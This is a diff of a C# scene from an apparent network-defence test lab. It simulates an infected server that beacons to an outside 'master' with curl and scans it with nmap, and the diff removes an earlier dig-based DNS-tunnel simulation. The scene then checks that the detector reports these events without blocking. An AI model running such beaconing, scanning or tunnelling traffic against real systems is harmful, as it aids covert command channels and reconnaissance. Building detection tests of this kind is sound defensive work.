@@ -1,45 +1,47 @@
-using System.Globalization;
 using System.Net;
+using Blackwall.Lab.Network;
 using Blackwall.Lab.Tools;
 
 namespace Blackwall.Lab.Story.Scenes;
 
 /// <summary>
-/// The protected server has caught something: it checks in with a master outside (curl, over IPv6), speaks through a name server (dig) and
-/// scans (nmap). All of that is told, and neither the server nor anybody else is blocked for it.
+/// The protected server has caught something: it checks in with a master outside (curl, over IPv6) and scans (nmap, over both families). All
+/// of that is told, and neither the server nor anybody else is blocked for it.
 /// </summary>
-public sealed class InsideScene : IScene
+public sealed class InsideScene(int guest) : IScene
 {
     private const int CheckIns = 31;
-    private const int Names = 45;
-
-    private static readonly TimeSpan s_period = TimeSpan.FromMilliseconds(700);
+    private static readonly TimeSpan s_period = TimeSpan.FromMilliseconds(500);
     private static readonly TimeSpan s_limit = TimeSpan.FromSeconds(20);
 
-    public string Title => "An infected server (curl, dig, nmap from inside)";
+    public string Title => "An infected server (curl, nmap from inside)";
 
     public async Task PlayAsync(Play play, CancellationToken cancellation)
     {
         var stage = play.Stage;
-        var (server, master) = (stage.Network.Server, stage.Network.Attacker);
-        play.Narrator.Say("the server checks in with a master, tunnels through DNS and scans the outside");
-        var known = (await stage.Api.DecisionsAsync(about: null, cancellation)).Select(d => d.Id).ToHashSet();
+        var server = stage.Network.Server;
+        var master = await stage.Network.AddGuestAsync(guest, addresses: 2);
+        play.Narrator.Say("the server checks in with a master and scans the outside");
         await Task.WhenAll(
-            CheckInAsync(stage, master.Addresses6[16], cancellation),
-            TunnelAsync(stage, master.Addresses4[17], cancellation),
-            server.Network.TryAsync(["nmap", "-sT", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "2000-2060", master.Addresses4[18].ToString()], s_limit, cancellation));
-        await ToldAsync(play, server.Addresses6[0], "beacon", cancellation);
-        await ToldAsync(play, server.Addresses4[0], "dns-tunnel", cancellation);
-        await ToldAsync(play, server.Addresses4[0], "outbound-scan", cancellation);
-        var blocks = (await stage.Api.DecisionsAsync(about: null, cancellation)).Count(d => d.Blocks && !known.Contains(d.Id));
-        play.Facts.None(Title, "addresses blocked for it", blocks);
+            CheckInAsync(stage, master.Addresses6[0], cancellation),
+            ScanAsync(server, master.Addresses4[1], cancellation),
+            ScanAsync(server, master.Addresses6[1], cancellation));
+        var watch = new InsideWatch(play, Title);
+        await watch.ToldAsync(server.Addresses6[0], "beacon", cancellation);
+        await watch.ToldAsync(server.Addresses4[0], "outbound-scan", cancellation);
+        await watch.ToldAsync(server.Addresses6[0], "outbound-scan", cancellation);
+        await watch.NobodyActedOnAsync([.. master.Addresses4, .. master.Addresses6, .. server.Addresses4, .. server.Addresses6], cancellation);
     }
 
-    private async Task ToldAsync(Play play, IPAddress inside, string kind, CancellationToken cancellation)
+    private static async Task ScanAsync(LabHost server, IPAddress target, CancellationToken cancellation)
     {
-        var seen = await Tool.UntilAsync(
-            async () => (await play.Stage.Api.EvidenceKindsAsync(inside, cancellation)).Contains(kind, StringComparer.Ordinal), s_limit, cancellation);
-        play.Facts.Is(Title, $"told of {inside}", kind, seen ? kind : "nothing of the kind");
+        List<string> command = ["nmap", "-sT", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "2000-2060", $"{target}"];
+        if (target.AddressFamily == System.Net.Sockets.AddressFamily.InterNetworkV6)
+        {
+            command.Insert(1, "-6");
+        }
+
+        await server.Network.TryAsync(command, s_limit, cancellation);
     }
 
     private static async Task CheckInAsync(Stage stage, IPAddress master, CancellationToken cancellation)
@@ -51,15 +53,4 @@ public sealed class InsideScene : IScene
             await Tool.PauseAsync(s_period * (0.8 + (0.4 * jitter.NextDouble())), cancellation);
         }
     }
-
-    // Nobody answers there; the port is closed, so each question fails at once.
-    private static async Task TunnelAsync(Stage stage, IPAddress nameServer, CancellationToken cancellation)
-    {
-        Random payload = new(11);
-        var file = stage.Run.File("questions");
-        await File.WriteAllLinesAsync(file, Enumerable.Range(0, Names).Select(i => $"{Word(payload, 48)}.{i.ToString(CultureInfo.InvariantCulture)}.t.example.org TXT"), cancellation);
-        await stage.Network.Server.Network.TryAsync(["dig", $"@{nameServer}", "+tries=1", "+time=1", "-f", file], TimeSpan.FromSeconds(60), cancellation);
-    }
-
-    private static string Word(Random random, int length) => string.Concat(Enumerable.Range(0, length).Select(_ => "abcdefghijklmnopqrstuvwxyz234567"[random.Next(32)]));
 }
